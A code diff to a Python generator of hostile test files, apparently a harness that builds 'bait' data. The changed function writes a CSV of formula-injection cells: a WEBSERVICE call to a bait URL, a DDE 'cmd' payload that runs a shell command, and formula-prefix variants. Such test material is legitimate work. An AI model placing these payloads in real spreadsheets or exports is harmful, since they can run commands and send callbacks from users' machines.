@@ -1,3 +1,4 @@
+# ruff: noqa: E501 - a payload reads best in one piece
 """Tables and structured text that nest, repeat, lie and swell (recipe 16)."""
 
 from __future__ import annotations
@@ -72,7 +73,16 @@ def _parquet(bait: Bait) -> bytes:
 
 
 def _csv_formulas(bait: Bait) -> bytes:
-    cells = [f'=WEBSERVICE("{bait.url}/c")', "=cmd|' /C touch pwned'!A1", "+1+1", "-1+1", "@SUM(1)", "\t=1", f'=HYPERLINK("{bait.url}")', "Harmless"]
+    cells = [
+        f'=WEBSERVICE("{bait.url}/c")',
+        "=cmd|' /C touch pwned'!A1",
+        "+1+1",
+        "-1+1",
+        "@SUM(1)",
+        "\t=1",
+        f'=HYPERLINK("{bait.url}")',
+        "Harmless",
+    ]
     return ("a,b\n" + "".join('"' + cell.replace('"', '""') + '",1\n' for cell in cells)).encode()
 
 
